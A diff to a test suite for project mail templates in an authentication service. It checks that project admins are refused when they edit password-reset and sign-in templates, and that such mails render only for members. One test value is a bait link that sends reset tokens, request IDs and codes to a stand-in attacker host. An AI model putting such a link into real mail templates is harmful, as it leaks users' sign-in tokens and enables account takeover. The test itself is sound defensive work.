@@ -46,12 +46,30 @@ describe('mail templates', () => {
     })
   })
 
-  it("renders a reset or sign-in mail with a project's template only for the project's members: its admins write it, and the mail carries a token", async () => {
-    await configureTenant(app, { passwordless: { enabled: 'always' } })
+  it("keeps a project's reset and sign-in templates from its admins (a project admin can make anyone a member, and the mail carries a token)", async () => {
     const admin = await projectAdmin(app, 'news')
     const bait = 'https://attacker.example/steal?t={{token}}&r={{requestId}}&c={{code}}&u={{url}}'
+    await expectNoEffect(app, async () => {
+      for (const type of ['RESET_PASSWORD_REQUEST', 'PASSWORDLESS_SIGN_IN']) {
+        const added = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type, subject: 'Security notice', content: bait } }, token: admin.token })
+        expect(added.errors?.[0]?.extensions?.code, type).toBe('FORBIDDEN')
+        const removed = await app.gql('mutation ($id: MailTemplateIdentifier!) { removeMailTemplate(templateIdentifier: $id) { ok } }', {
+          variables: { id: { projectSlug: 'news', type } },
+          token: admin.token,
+        })
+        expect(removed.errors?.[0]?.extensions?.code, type).toBe('FORBIDDEN')
+      }
+    })
+    // Other project mails stay theirs.
+    const invite = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type: 'EXISTING_USER_INVITED', subject: 'Welcome', content: 'Hi' } }, token: admin.token })
+    expect(invite.data.addMailTemplate).toEqual({ ok: true, error: null })
+  })
+
+  it("renders a reset or sign-in mail with a project's template only for the project's members, and records that it did (metadata.mailProject)", async () => {
+    await configureTenant(app, { passwordless: { enabled: 'always' } })
     for (const type of ['RESET_PASSWORD_REQUEST', 'PASSWORDLESS_SIGN_IN']) {
-      const added = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type, subject: 'Security notice', content: bait, useLayout: false } }, token: admin.token })
+      const content = 'Your token: {{token}} {{requestId}}'
+      const added = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type, subject: 'News sign-in', content, useLayout: false } }, token: app.rootToken })
       expect(added.data.addMailTemplate).toEqual({ ok: true, error: null })
     }
     const member = await signUpPerson(app)
@@ -73,10 +91,22 @@ describe('mail templates', () => {
       }
       throw new Error(`no mail to ${email}`)
     }
-    expect(await subjects(member.email)).toEqual(['Security notice', 'Security notice'])
+    const recorded = (email: string) =>
+      sql<{ type: string; mailProject: string | null }>(
+        app,
+        `SELECT type, metadata ->> 'mailProject' AS "mailProject" FROM person_auth_log
+          WHERE person_input_identifier = $1 AND type IN ('password_reset_init', 'passwordless_login_init')`,
+        [email],
+      ).then((rows) => rows.sort((a, b) => (a.type < b.type ? -1 : 1)))
+    expect(await subjects(member.email)).toEqual(['News sign-in', 'News sign-in'])
+    expect(await recorded(member.email)).toEqual([
+      { type: 'password_reset_init', mailProject: 'news' },
+      { type: 'passwordless_login_init', mailProject: 'news' },
+    ])
     const outsiderSubjects = await subjects(outsider.email)
-    expect(outsiderSubjects).not.toContain('Security notice')
+    expect(outsiderSubjects).not.toContain('News sign-in')
     expect(outsiderSubjects).toHaveLength(2)
+    expect((await recorded(outsider.email)).map((row) => row.mailProject)).toEqual([null, null])
   })
 
   it("shows a project admin only its project's templates", async () => {
